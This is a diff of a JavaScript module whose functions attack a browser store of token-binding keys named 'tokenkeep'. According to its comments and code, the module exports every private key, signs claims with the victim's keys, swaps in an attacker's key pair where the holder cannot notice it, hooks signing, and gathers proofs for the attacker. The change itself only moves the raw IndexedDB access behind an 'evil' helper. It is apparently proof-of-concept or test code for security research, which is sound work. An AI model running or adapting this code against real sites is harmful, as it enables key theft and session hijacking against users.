@@ -3,11 +3,7 @@
 
 /** Takes every key pair in the store and tries to get at its private part in all the ways there are. */
 export async function exportKeys(evil) {
-  const settled = (request) =>
-    new Promise((done, failed) => Object.assign(request, { onsuccess: () => done(request.result), onerror: failed }));
-  const database = await settled(indexedDB.open("tokenkeep", 1));
-  const values = await settled(database.transaction("transactions").objectStore("transactions").getAll());
-  database.close();
+  const values = (await evil.records()).map(([, value]) => value);
   const pairs = values.map(({ pair }) => pair).filter(Boolean);
   const wrapping = await crypto.subtle.generateKey({ name: "AES-GCM", length: 256 }, true, ["wrapKey", "unwrapKey"]);
   const wrapAlgorithm = { name: "AES-GCM", iv: new Uint8Array(12) };
@@ -25,11 +21,7 @@ export async function exportKeys(evil) {
 
 /** Signs these claims with every key in the store. */
 export async function signInPlace(evil, claims) {
-  const settled = (request) =>
-    new Promise((done, failed) => Object.assign(request, { onsuccess: () => done(request.result), onerror: failed }));
-  const database = await settled(indexedDB.open("tokenkeep", 1));
-  const values = await settled(database.transaction("transactions").objectStore("transactions").getAll());
-  database.close();
+  const values = (await evil.records()).map(([, value]) => value);
   const encode = (bytes) => btoa(String.fromCharCode(...bytes)).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
   const json = (value) => encode(new TextEncoder().encode(JSON.stringify(value)));
   const proofs = [];
@@ -45,18 +37,11 @@ export async function signInPlace(evil, claims) {
 
 /** Puts a pair of the attacker's into the place of the one that outlives sign-ins; the holder can't see where it is from. */
 export async function plantKey(evil, { jwk }) {
-  const settled = (request) =>
-    new Promise((done, failed) => Object.assign(request, { onsuccess: () => done(request.result), onerror: failed }));
   const algorithm = { name: "ECDSA", namedCurve: "P-256" };
   const { d, ...open } = jwk;
   const privateKey = await crypto.subtle.importKey("jwk", { ...open, d, key_ops: ["sign"] }, algorithm, false, ["sign"]);
   const publicKey = await crypto.subtle.importKey("jwk", { ...open, key_ops: ["verify"] }, algorithm, true, ["verify"]);
-  const opening = indexedDB.open("tokenkeep", 1);
-  opening.onupgradeneeded = () => opening.result.createObjectStore("transactions");
-  const database = await settled(opening);
-  const store = database.transaction("transactions", "readwrite").objectStore("transactions");
-  await settled(store.put({ pair: { privateKey, publicKey }, created: Infinity }, "key"));
-  database.close();
+  await evil.plantRecords([["key", { pair: { privateKey, publicKey }, created: Infinity }]]);
 }
 
 /**
@@ -89,9 +74,8 @@ export function hookSigning(evil) {
 }
 
 /** Asks the holder for proofs in every way that messages have, and sends the attacker all its answers. */
-export async function askForProofs(evil, { mode, holder, url, elsewhere, iat }) {
-  const options = { type: "module", name: "tokenkeep", extendedLifetime: true };
-  const port = mode === "shared" ? new SharedWorker(holder, options).port : await evil.captureWorker();
+export async function askForProofs(evil, { url, elsewhere, iat }) {
+  const port = await evil.connect();
   const answers = [];
   port.addEventListener("message", ({ data }) => answers.push(data));
   port.start?.();
